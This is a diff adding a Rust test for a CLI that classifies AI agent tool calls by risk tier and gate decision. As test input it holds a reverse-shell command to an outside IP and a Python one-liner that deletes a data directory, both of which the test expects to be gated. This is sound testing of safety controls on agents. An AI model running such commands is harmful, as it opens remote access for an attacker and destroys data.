@@ -278,3 +278,42 @@ fn redact_runs_detector_plugins_as_the_fifth_layer() {
     assert!(stdout(&out).is_empty(), "nothing may be written when a detector fails");
     assert!(stderr(&out).contains("detector hostile failed"), "{}", stderr(&out));
 }
+
+/// Issue 12: an operator checks a policy's tool decisions before rolling it out.
+#[test]
+fn tools_classify_prints_the_decision_tier_and_reason_of_each_call() {
+    let calls = concat!(
+        r#"{"tool_name": "exec", "tool_args": {"command": "ls -la /srv"}}"#,
+        "\n",
+        r#"{"tool_name": "Bash", "tool_args": {"cmd": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}"#,
+        "\n",
+        r#"{"command": "python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'"}"#,
+        "\n",
+        r#"{"tool_name": "read", "tool_args": ["not", "an", "object"]}"#,
+        "\n",
+    );
+    let out = run_with_stdin(&["tools", "classify"], calls.as_bytes());
+    assert_eq!(out.status.code(), Some(1), "a bad line is reported and fails the run: {}", stderr(&out));
+    let rows: Vec<serde_json::Value> = stdout(&out).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(rows.len(), 4, "{rows:?}");
+    assert_eq!(
+        (rows[0]["decision"].as_str(), rows[0]["tier"].as_str()),
+        (Some("execute"), Some("GREEN")),
+        "{}",
+        rows[0]
+    );
+    assert_eq!(rows[1]["decision"], "gate", "{}", rows[1]);
+    assert!(rows[1]["reason"].as_str().unwrap().contains("/dev/tcp"), "{}", rows[1]);
+    assert_eq!(rows[2]["decision"], "gate", "{}", rows[2]);
+    assert!(!rows[2]["commands"].as_array().unwrap().is_empty(), "{}", rows[2]);
+    assert_eq!(rows[3]["line"], 4);
+    assert!(rows[3]["error"].as_str().unwrap().contains("tool_args"), "{}", rows[3]);
+    // At autonomy 3 the destructive call runs; the remote shell (external) still waits.
+    let out = run_with_stdin(
+        &["tools", "classify", "--autonomy", "3"],
+        calls.lines().take(3).collect::<Vec<_>>().join("\n").as_bytes(),
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let rows: Vec<serde_json::Value> = stdout(&out).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(rows[1]["decision"], "gate", "{}", rows[1]);
+}
